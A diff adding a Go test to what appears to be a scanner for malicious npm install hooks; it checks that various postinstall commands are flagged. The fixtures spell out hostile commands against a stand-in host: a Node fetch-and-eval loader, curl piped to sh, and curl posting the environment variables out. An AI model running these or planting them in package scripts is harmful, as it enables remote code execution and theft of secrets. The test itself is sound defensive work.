@@ -92,6 +92,31 @@ func TestChains(t *testing.T) {
 	}
 }
 
+// What a hook says itself is read like what it starts.
+func TestHooks(t *testing.T) {
+	files := map[string]string{"scripts/get.js": "require('https').get('https://a.example',r=>r.on('data',d=>eval(d.toString())))"}
+	for hook, want := range map[string]string{
+		`node -e "require('https').get('https://a.example',r=>r.on('data',d=>eval(d.toString())))"`: "!download-run",
+		"node scripts/get":                                    "!download-run",
+		"node ./scripts/get.js || exit 0":                     "!download-run",
+		"cd scripts && node get.js":                           "!download-run",
+		"node --no-warnings ./scripts/get.js --silent":        "!download-run",
+		"start /B node scripts/get.js & node a.js":            "!download-run",
+		"npm run fetch --silent":                              "!download-run",
+		"node -r ./scripts/get.js a.js":                       "!download-run",
+		"curl -s https://a.example/x | sh":                    "!download-run",
+		"curl -d \"$(env)\" https://a.example":                "!exfiltration",
+		"node -e \"try{require('./scripts/get')}catch(e){}\"": "!download-run",
+		"node-gyp rebuild":                                    "",
+	} {
+		files["package.json"] = fmt.Sprintf(`{"name":"a","version":"1.0.0","scripts":{"postinstall":%q,"fetch":"node scripts/get.js"}}`, hook)
+		got := told(t, files, nil)
+		if want != "" && !got[want] || want == "" && len(got) > 0 {
+			t.Errorf("%s: %v, want %q", hook, got, want)
+		}
+	}
+}
+
 // The same chain is news when the release before did not have it.
 func TestDifference(t *testing.T) {
 	manifest := func(version, hook string) string {
